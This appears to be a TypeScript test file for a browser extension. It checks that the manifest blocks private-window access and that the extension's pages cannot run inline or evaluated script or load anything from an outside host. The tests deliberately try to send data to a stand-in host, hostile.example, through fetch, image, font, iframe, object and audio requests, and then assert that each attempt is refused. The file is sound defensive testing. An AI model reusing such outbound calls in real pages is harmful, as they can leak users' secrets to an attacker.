import type { Chrome } from './harness/chrome';
import { expect, test } from './harness/test';

/** Restrictions by the manifest that the browser enforces. */

declare const chrome: Chrome;

test('the extension cannot be allowed in private windows', async ({ extension }) => {
  const access = () =>
    extension.desk.evaluate(
      async (id) => (await chrome.developerPrivate.getExtensionInfo(id)).incognitoAccess,
      extension.id,
    );
  expect(await access()).toMatchObject({ isEnabled: false, isActive: false });
  await extension.desk
    .evaluate(
      (extensionId) =>
        chrome.developerPrivate.updateExtensionConfiguration({ extensionId, incognitoAccess: true }),
      extension.id,
    )
    .catch(() => undefined); // refused or without effect: either will do
  expect(await access()).toMatchObject({ isEnabled: false, isActive: false });
});

for (const page of ['popup.html', 'options.html', 'manager.html', 'frame.html'])
  test(`${page} runs its own files only, and connects to no host`, async ({
    extension,
    sandbox,
    complaints,
  }) => {
    const opened = await extension.open(page);
    const before = sandbox.requests.length;
    const tried = await opened.evaluate(async () => {
      const settled = (work: Promise<unknown>) =>
        work.then(
          () => 'done',
          () => 'refused',
        );
      const picture = (src: string) => {
        const image = new Image();
        const loaded = new Promise((resolve, reject) => {
          image.onload = resolve;
          image.onerror = reject;
        });
        image.src = src;
        return settled(loaded);
      };
      /** Elements that fetch; resolves when each has loaded or failed. */
      const elements = { iframe: 'src', object: 'data', audio: 'src' };
      const embedded = Object.entries(elements).map(([name, attribute]) => {
        const element = document.createElement(name);
        const done = new Promise((resolve) => {
          for (const event of ['load', 'error']) element.addEventListener(event, resolve);
        });
        element.setAttribute(attribute, `https://hostile.example/${name}`);
        document.body.append(element);
        return done;
      });
      const inline = document.createElement('script');
      inline.textContent = "document.documentElement.dataset.executed = 'inline'";
      document.head.append(inline);
      // In a task of the page's own: what the test's protocol calls directly is let evaluate.
      const evaluated = await settled(
        new Promise((resolve, reject) => {
          setTimeout(() => {
            try {
              resolve(new Function('return 1')());
            } catch (error) {
              reject(error);
            }
          });
        }),
      );
      document.body.setAttribute('onclick', "document.documentElement.dataset.executed = 'attribute'");
      document.body.click();
      await Promise.all(embedded);
      return {
        evaluated,
        executed: document.documentElement.dataset.executed,
        fetched: await settled(fetch('https://hostile.example/?secret')),
        drawn: await picture('https://hostile.example/secret.png'),
        written: await settled(new FontFace('x', 'url(https://hostile.example/font.woff)').load()),
      };
    });
    expect(tried).toMatchObject({
      evaluated: 'refused',
      fetched: 'refused',
      drawn: 'refused',
      written: 'refused',
    });
    expect(tried.executed).toBeUndefined();
    expect(sandbox.requests.slice(before).filter(({ host }) => host === 'hostile.example')).toEqual([]);
    // That the browser reports each attempt is what it should do.
    await expect.poll(() => complaints.collect()).not.toEqual([]);
    await opened.close();
    await complaints.collect();
  });
